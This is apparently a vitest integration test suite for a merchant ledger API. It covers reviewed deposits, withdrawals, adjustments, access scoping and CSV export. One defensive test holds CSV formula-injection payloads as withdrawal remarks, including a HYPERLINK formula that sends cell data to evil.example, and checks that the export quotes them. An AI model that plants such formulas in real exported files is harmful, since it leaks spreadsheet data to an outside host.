import { parse } from 'csv-parse/sync'
import { and, count, eq, like } from 'drizzle-orm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  accountMovements,
  accountRequests,
  auditLog,
  ledgerAccounts,
  ledgerEntries,
  merchants,
  users,
} from '../../db/schema'
import { verifyLedger } from '../../ledger/verify'
import { createTestApi, type TestApi } from '../../testing/harness'
import { sessionFor } from '../../testing/sessions'

let api: TestApi
const tokens: Record<string, string> = {}
let skyline: number
let blueHarbor: number

const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='
const proof = { name: 'wire.png', contentType: 'image/png', data: PNG }

const call = (path: string, body: unknown, user: string, lang?: string) =>
  api.call(`/accounts${path}`, body, { token: tokens[user], lang })

async function balanceOf(merchantId: number, currency = 'USD') {
  const [a] = await api.deps.db
    .select()
    .from(ledgerAccounts)
    .where(
      and(
        eq(ledgerAccounts.type, 'merchant_balance'),
        eq(ledgerAccounts.ownerId, merchantId),
        eq(ledgerAccounts.currency, currency),
      ),
    )
  return {
    posted: a.creditsPosted - a.debitsPosted,
    available: a.creditsPosted - a.debitsPosted - a.debitsPending,
  }
}

const entryCount = async () =>
  Number((await api.deps.db.select({ n: count() }).from(ledgerEntries))[0].n)

const deposit = (amount: number, user = 'merchant.user', extra: Record<string, unknown> = {}) =>
  call(
    '/transactions/save',
    { kind: 'deposit', currency: 'USD', amount, reference: 'WIRE-T1', proof, ...extra },
    user,
  )

beforeAll(async () => {
  api = await createTestApi()
  for (const u of ['admin', 'company.admin', 'merchant.user', 'auditor']) {
    tokens[u] = await sessionFor(api, u)
  }
  const rows = await api.deps.db.select().from(merchants)
  skyline = rows.find((m) => m.name === 'Skyline Air Tickets')!.id
  blueHarbor = rows.find((m) => m.name === 'Blue Harbor Hotels')!.id
}, 120_000)
afterAll(() => api.close())

describe('deposit declared by a merchant user, reviewed by an administrator', () => {
  it('credits the balance once, on approval, with history and audit', async () => {
    const before = await balanceOf(skyline)
    const declared = await deposit(1_234_56)
    expect(declared.body.code).toBe(0)
    const req = declared.body.data
    expect(req).toMatchObject({
      kind: 'deposit',
      status: 'pending',
      amount: 1_234_56,
      merchantId: skyline,
      proof: { name: 'wire.png', contentType: 'image/png' },
      review: { state: 'pending', makerName: 'merchant.user', makerIsYou: true },
      buttons: { decide: false, withdraw: true },
    })
    expect(await balanceOf(skyline)).toEqual(before)

    // The declarer cannot approve: merchant users have no review button…
    const own = await call(
      '/transactions/review',
      { requestId: req.id, decision: 'approve', reasonCode: 'verified' },
      'merchant.user',
    )
    expect(own.status).toBe(403)
    expect(own.body.code).toBe(1403)

    const entries = await entryCount()
    const approved = await call(
      '/transactions/review',
      { requestId: req.id, decision: 'approve', reasonCode: 'verified', note: 'seen' },
      'admin',
    )
    expect(approved.body.code).toBe(0)
    expect(approved.body.data.status).toBe('success')
    // The review's history, in the shape every reviewed item has (server/reviews/service.ts).
    expect(approved.body.data.review.history).toMatchObject([
      { event: 'SUBMIT', from: null, to: 'pending', actorName: 'merchant.user' },
      {
        event: 'APPROVE',
        from: 'pending',
        to: 'approved',
        actorName: 'admin',
        reasonCode: 'verified',
        note: 'seen',
      },
    ])
    expect(approved.body.data.review.state).toBe('approved')
    expect(await balanceOf(skyline)).toEqual({
      posted: before.posted + 1_234_56,
      available: before.available + 1_234_56,
    })
    expect(await entryCount()).toBe(entries + 1)

    // The same reviewer's identical call again answers the first decision and moves nothing;
    // any other review (the other way, or another reviewer) is refused.
    const retry = await call(
      '/transactions/review',
      { requestId: req.id, decision: 'approve', reasonCode: 'verified', note: 'seen' },
      'admin',
    )
    expect([retry.body.code, retry.body.data.status]).toEqual([0, 'success'])
    expect(retry.body.data.review.history).toHaveLength(2)
    for (const [decision, reviewer] of [
      ['reject', 'admin'],
      ['approve', 'company.admin'],
    ]) {
      const again = await call(
        '/transactions/review',
        { requestId: req.id, decision, reasonCode: 'verified' },
        reviewer,
      )
      expect([again.status, again.body.code]).toEqual([422, 2012])
    }
    expect(await entryCount()).toBe(entries + 1)

    // The list shows one posted row for it (the pending row is gone), with the balance after.
    const list = await call(
      '/transactions/list',
      { filters: { reference: 'WIRE-T1' }, pageSize: 10 },
      'merchant.user',
    )
    expect(list.body.data.total).toBe(1)
    expect(list.body.data.list[0]).toMatchObject({
      type: 'deposit',
      status: 'success',
      amount: 1_234_56,
      balanceAfter: before.posted + 1_234_56,
      requestId: req.id,
      merchantName: 'Skyline Air Tickets',
      actorName: 'admin',
    })
    const audits = await api.deps.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.target, `account-request:${req.id}`))
    expect(audits.map((a) => [a.action, a.loginName])).toEqual([
      ['accounts.deposit.submit', 'merchant.user'],
      ['accounts.deposit.approve', 'admin'],
    ])
    const shown = await call('/transactions/request', { requestId: req.id }, 'auditor')
    expect(shown.body.data.audit.map((a: { action: string }) => a.action)).toEqual([
      'accounts.deposit.submit',
      'accounts.deposit.approve',
    ])
  })

  it('never lets the user who submitted a request review it (maker ≠ checker)', async () => {
    const made = await deposit(500_00, 'admin', { merchantId: blueHarbor })
    expect(made.body.code).toBe(0)
    expect(made.body.data.review.makerIsYou).toBe(true)
    const before = await balanceOf(blueHarbor)
    for (const decision of ['approve', 'reject']) {
      const own = await call(
        '/transactions/review',
        { requestId: made.body.data.id, decision, reasonCode: 'verified' },
        'admin',
      )
      expect(own.status).toBe(422)
      expect(own.body.code).toBe(2013)
      expect(own.body.msg).toBe('You cannot review a request you made yourself')
    }
    const zh = await call(
      '/transactions/review',
      { requestId: made.body.data.id, decision: 'approve', reasonCode: 'verified' },
      'admin',
      'zh_CN',
    )
    expect(zh.body.msg).toBe('不能审核自己提交的申请')
    expect(await balanceOf(blueHarbor)).toEqual(before)
    const [row] = await api.deps.db
      .select()
      .from(accountRequests)
      .where(eq(accountRequests.id, made.body.data.id))
    expect(row.status).toBe('pending')
    // Another reviewer may.
    const other = await call(
      '/transactions/review',
      { requestId: made.body.data.id, decision: 'approve', reasonCode: 'verified' },
      'company.admin',
    )
    expect(other.body.code).toBe(0)
    expect((await balanceOf(blueHarbor)).posted).toBe(before.posted + 500_00)
  })

  it('refuses a deposit below the currency minimum (a system parameter), in both languages', async () => {
    const before = await entryCount()
    const low = await deposit(99_99)
    expect(low.status).toBe(422)
    expect(low.body.code).toBe(2010)
    expect(low.body.msg).toBe(
      'The deposit amount cannot be less than the minimum deposit of $100.00',
    )
    const zh = await api.call(
      '/accounts/transactions/save',
      { kind: 'deposit', currency: 'USD', amount: 1, reference: 'x', proof },
      { token: tokens['merchant.user'], lang: 'zh_CN' },
    )
    expect(zh.body.msg).toBe('充值金额不能低于最低充值金额 $100.00')
    expect((await deposit(100_00)).body.code).toBe(0)
    expect(await entryCount()).toBe(before)
  })

  it('checks the proof file on the server: type by content, size, presence', async () => {
    const fake = await deposit(200_00, 'merchant.user', {
      proof: { name: 'x.pdf', contentType: 'application/pdf', data: PNG },
    })
    expect(fake.body.code).toBe(2014)
    const script = await deposit(200_00, 'merchant.user', {
      proof: { name: 'x.html', contentType: 'text/html', data: PNG },
    })
    expect(script.status).toBe(400)
    const big = Buffer.alloc(600 * 1024, 1)
    Buffer.from([0x25, 0x50, 0x44, 0x46, 0x2d]).copy(big)
    const large = await deposit(200_00, 'merchant.user', {
      proof: { name: 'x.pdf', contentType: 'application/pdf', data: big.toString('base64') },
    })
    expect(large.body.code).toBe(2015)
    const none = await deposit(200_00, 'merchant.user', { proof: undefined })
    expect(none.body.code).toBe(2016)
    const noRef = await deposit(200_00, 'merchant.user', { reference: '' })
    expect(noRef.status).toBe(400)
    const stored = await api.deps.db
      .select({ n: count() })
      .from(accountRequests)
      .where(eq(accountRequests.amount, 200_00))
    expect(Number(stored[0].n)).toBe(0)
  })

  it('serves the proof back to users in reach only', async () => {
    const made = await deposit(300_00)
    const file = await api.fetch(
      '/accounts/transactions/proof',
      { requestId: made.body.data.id },
      { token: tokens.auditor },
    )
    expect(file.status).toBe(200)
    expect(file.headers.get('content-type')).toBe('image/png')
    expect(Buffer.from(await file.arrayBuffer()).toString('base64')).toBe(PNG)
    const other = await deposit(300_00, 'admin', { merchantId: blueHarbor })
    const outside = await call(
      '/transactions/proof',
      { requestId: other.body.data.id },
      'merchant.user',
    )
    expect(outside.status).toBe(404)
    expect(
      (await call('/transactions/request', { requestId: other.body.data.id }, 'merchant.user'))
        .status,
    ).toBe(404)
  })
})

describe('withdrawals and adjustments', () => {
  it('holds a withdrawal at once, posts it on approval, releases it on rejection', async () => {
    const start = await balanceOf(skyline)
    const ask = (amount: number) =>
      call(
        '/transactions/save',
        { kind: 'withdrawal', currency: 'USD', amount, beneficiary: 'OCBC 1' },
        'merchant.user',
      )
    const first = await ask(1_000_00)
    expect(first.body.data.status).toBe('pending')
    expect(await balanceOf(skyline)).toEqual({
      posted: start.posted,
      available: start.available - 1_000_00,
    })
    // Beyond what is still available: the spec's insufficient-balance message.
    const tooMuch = await ask(start.available - 1_000_00 + 1)
    expect(tooMuch.body.code).toBe(2001)
    expect(tooMuch.body.msg).toBe('Insufficient account balance')
    const rejected = await call(
      '/transactions/review',
      {
        requestId: first.body.data.id,
        decision: 'reject',
        reasonCode: 'mismatch',
        note: 'x',
      },
      'admin',
    )
    expect(rejected.body.data.status).toBe('rejected')
    expect(await balanceOf(skyline)).toEqual(start)
    const second = await ask(400_00)
    await call(
      '/transactions/review',
      { requestId: second.body.data.id, decision: 'approve', reasonCode: 'verified' },
      'company.admin',
    )
    expect(await balanceOf(skyline)).toEqual({
      posted: start.posted - 400_00,
      available: start.available - 400_00,
    })
    const rows = await call(
      '/transactions/list',
      { filters: { type: 'withdrawal', merchant: skyline }, pageSize: 200 },
      'admin',
    )
    const byRequest = (id: number) =>
      rows.body.data.list.filter((r: { requestId: number }) => r.requestId === id)
    expect(byRequest(first.body.data.id)).toMatchObject([
      { status: 'rejected', amount: -1_000_00, balanceAfter: null },
    ])
    expect(byRequest(second.body.data.id)).toMatchObject([
      { status: 'success', amount: -400_00, balanceAfter: start.posted - 400_00 },
    ])
  })

  it('lets the submitter cancel a pending withdrawal, releasing the hold', async () => {
    const start = await balanceOf(skyline)
    const made = await call(
      '/transactions/save',
      { kind: 'withdrawal', currency: 'USD', amount: 50_00, beneficiary: 'OCBC 1' },
      'merchant.user',
    )
    const notMine = await call(
      '/transactions/cancel',
      { requestId: made.body.data.id },
      'company.admin',
    )
    expect(notMine.body.code).toBe(2017)
    const cancelled = await call(
      '/transactions/cancel',
      { requestId: made.body.data.id },
      'merchant.user',
    )
    expect(cancelled.body.data.status).toBe('cancel')
    expect(await balanceOf(skyline)).toEqual(start)
  })

  it('manual adjustments: admin only, reviewed, − refused beyond available', async () => {
    const start = await balanceOf(blueHarbor)
    const body = { merchantId: blueHarbor, currency: 'USD', sign: '-', reason: 'fee' }
    const beyond = await call(
      '/transactions/updateBalance',
      { ...body, amount: start.available + 1 },
      'admin',
    )
    expect(beyond.body.code).toBe(2001)
    expect(beyond.body.msg).toBe('Insufficient account balance')
    const merchantTry = await call(
      '/transactions/updateBalance',
      { ...body, merchantId: skyline, amount: 1 },
      'merchant.user',
    )
    expect(merchantTry.body.code).toBe(1403)
    const plus = await call(
      '/transactions/updateBalance',
      { ...body, sign: '+', amount: 10_00 },
      'admin',
    )
    expect(plus.body.data).toMatchObject({ kind: 'adjustment', amount: 10_00, status: 'pending' })
    expect(await balanceOf(blueHarbor)).toEqual(start)
    await call(
      '/transactions/review',
      { requestId: plus.body.data.id, decision: 'approve', reasonCode: 'other' },
      'company.admin',
    )
    expect((await balanceOf(blueHarbor)).posted).toBe(start.posted + 10_00)
  })
})

describe('lists', () => {
  it('balances: exactly the agreed fields, scoped to the caller', async () => {
    const all = await call('/balance/list', { pageSize: 50 }, 'admin')
    expect(all.body.code).toBe(0)
    expect(Object.keys(all.body.data.list[0]).sort()).toEqual(
      [
        'accountId',
        'available',
        'currency',
        'ownerId',
        'ownerName',
        'ownerType',
        'pending',
        'posted',
      ].sort(),
    )
    expect(all.body.data.total).toBe(6)
    const own = await call('/balance/list', { pageSize: 50 }, 'merchant.user')
    expect(own.body.data.total).toBe(2)
    expect(own.body.data.list.every((r: { ownerId: number }) => r.ownerId === skyline)).toBe(true)
    const mine = await balanceOf(skyline)
    expect(
      own.body.data.list.find((r: { currency: string }) => r.currency === 'USD'),
    ).toMatchObject({ posted: mine.posted, available: mine.available })
    const bad = await call('/balance/list', { pageSize: 15 }, 'admin')
    expect(bad.status).toBe(400)
    const totals = await call('/balance/currencyList', {}, 'merchant.user')
    const usd = totals.body.data.find((t: { currency: string }) => t.currency === 'USD')
    expect(usd).toMatchObject({ merchants: 1, posted: mine.posted, available: mine.available })
  })

  it('transactions: a ledger transfer shows without further work; filters and scope', async () => {
    const accounts = await api.deps.db
      .select()
      .from(ledgerAccounts)
      .where(and(eq(ledgerAccounts.type, 'merchant_balance'), eq(ledgerAccounts.currency, 'USD')))
    const from = accounts.find((a) => a.ownerId === blueHarbor)!
    const to = accounts.find((a) => a.ownerId === skyline)!
    const moved = await api.call(
      '/accounts/transfer',
      {
        fromAccountId: from.id,
        toAccountId: to.id,
        amount: 7_77,
        currency: 'USD',
        requestId: 'acct-test-transfer',
        remark: 'between merchants',
      },
      { token: tokens.admin },
    )
    expect(moved.body.code).toBe(0)
    const seen = await call(
      '/transactions/list',
      { filters: { type: 'transfer', merchant: skyline }, pageSize: 10 },
      'merchant.user',
    )
    expect(seen.body.data.list[0]).toMatchObject({
      type: 'transfer',
      status: 'success',
      amount: 7_77,
      remark: 'between merchants',
      balanceAfter: moved.body.data.toBalanceAfter,
    })
    // Scope: the merchant user sees its own merchant only, whatever it filters by.
    const foreign = await call(
      '/transactions/list',
      { filters: { merchant: blueHarbor } },
      'merchant.user',
    )
    expect(foreign.body.data.total).toBe(0)
    const pending = await call(
      '/transactions/list',
      { filters: { status: 'pending' }, pageSize: 200 },
      'admin',
    )
    expect(pending.body.data.list.every((r: { status: string }) => r.status === 'pending')).toBe(
      true,
    )
    expect(pending.body.data.total).toBeGreaterThan(0)
    const csv = await api.fetch(
      '/accounts/transactions/export',
      { format: 'csv', filters: { merchant: skyline } },
      { token: tokens.auditor },
    )
    expect(csv.status).toBe(200)
    expect((await csv.text()).split('\n')[0]).toContain('Balance after')
  })

  it('the auditor sees everything and saves nothing', async () => {
    const list = await call('/transactions/list', {}, 'auditor')
    expect(list.body.data.total).toBeGreaterThan(0)
    const refused = await deposit(200_00, 'auditor', { merchantId: skyline })
    expect(refused.body.code).toBe(1403)
    const bank = await call(
      '/bank/save',
      { currency: 'USD', bankName: 'B', accountName: 'A', accountNumber: '1' },
      'auditor',
    )
    expect(bank.body.code).toBe(1403)
  })

  it('bank accounts: the kit calls; merchants read them, only the platform edits', async () => {
    const made = await call(
      '/bank/save',
      {
        currency: 'usd',
        bankName: 'Citibank',
        accountName: 'VCC',
        accountNumber: '123',
        swift: 'CITIUS33',
      },
      'admin',
    )
    expect(made.body.data).toMatchObject({ currency: 'USD', bankName: 'Citibank' })
    const read = await call('/bank/list', { filters: { currency: 'USD' } }, 'merchant.user')
    expect(read.body.data.list.map((r: { bankName: string }) => r.bankName)).toContain('Citibank')
    const edit = await call(
      '/bank/save',
      {
        id: made.body.data.id,
        currency: 'USD',
        bankName: 'X',
        accountName: 'A',
        accountNumber: '1',
      },
      'merchant.user',
    )
    expect(edit.body.code).toBe(1403)
    const badCurrency = await call(
      '/bank/save',
      { currency: 'XXX', bankName: 'B', accountName: 'A', accountNumber: '1' },
      'admin',
    )
    expect(badCurrency.status).toBe(400)
  })
})

describe('demo data', () => {
  it('has reviewed and pending history for every merchant, and the ledger verifies', async () => {
    const seeded = await api.deps.db
      .select({ n: count() })
      .from(accountMovements)
      .where(like(accountMovements.reference, 'WIRE-2026-%'))
    expect(Number(seeded[0].n)).toBeGreaterThanOrEqual(9)
    const admins = await api.deps.db.select().from(users).where(eq(users.loginName, 'admin'))
    expect(admins).toHaveLength(1)
    expect(await verifyLedger(api.deps.db)).toMatchObject({ ok: true, mismatches: [] })
  })
})

describe('export of withdrawal remarks (issue 17 item 6: CSV formula injection)', () => {
  it('quotes remarks a spreadsheet would run, and keeps amounts numbers', async () => {
    const remarks = ['=HYPERLINK("http://evil.example/?q="&A1,"x")', '+1+2', '-3+4', '@SUM(A1)']
    for (const remark of remarks) {
      const made = await call(
        '/transactions/save',
        { kind: 'withdrawal', currency: 'USD', amount: 5_00, beneficiary: 'OCBC 1', remark },
        'merchant.user',
      )
      expect(made.body.code).toBe(0)
    }
    const csv = await api.fetch(
      '/accounts/transactions/export',
      { format: 'csv', filters: { type: 'withdrawal', merchant: skyline } },
      { token: tokens['merchant.user'] },
    )
    expect(csv.status).toBe(200)
    const [header, ...records] = parse(await csv.text(), { bom: true }) as string[][]
    const [remark, amount] = [header.indexOf('Remark'), header.indexOf('Amount (Currency)')]
    const ours = records.filter((r) => remarks.some((x) => r[remark] === `'${x}`))
    expect(ours.map((r) => r[remark]).sort()).toEqual(remarks.map((x) => `'${x}`).sort())
    // The signed amount is a bare number in major units: no quote, so a spreadsheet adds it up.
    expect(ours.map((r) => r[amount])).toEqual(['-5.00', '-5.00', '-5.00', '-5.00'])
  })
})

describe('a merchant user naming another merchant (issue 17: reach is refused, never replaced)', () => {
  const requests = async () =>
    Number((await api.deps.db.select({ n: count() }).from(accountRequests))[0].n)

  it.each([
    ['a deposit', { kind: 'deposit', amount: 100_00, reference: 'WIRE-X', proof }],
    ['a withdrawal', { kind: 'withdrawal', amount: 1_00, beneficiary: 'OCBC 1' }],
  ])('refuses %s for a merchant outside its reach with 2020, writing nothing', async (_l, body) => {
    const before = [await requests(), await balanceOf(blueHarbor), await balanceOf(skyline)]
    const res = await call(
      '/transactions/save',
      { currency: 'USD', ...body, merchantId: blueHarbor },
      'merchant.user',
    )
    expect(res.status).toBe(404)
    expect(res.body.code).toBe(2020)
    expect([await requests(), await balanceOf(blueHarbor), await balanceOf(skyline)]).toEqual(
      before,
    )
  })

  it('still defaults to its own merchant when it names none, and accepts its own id', async () => {
    const none = await deposit(100_00)
    expect(none.body.data.merchantId).toBe(skyline)
    const own = await deposit(100_00, 'merchant.user', { merchantId: skyline })
    expect(own.body.data.merchantId).toBe(skyline)
  })
})
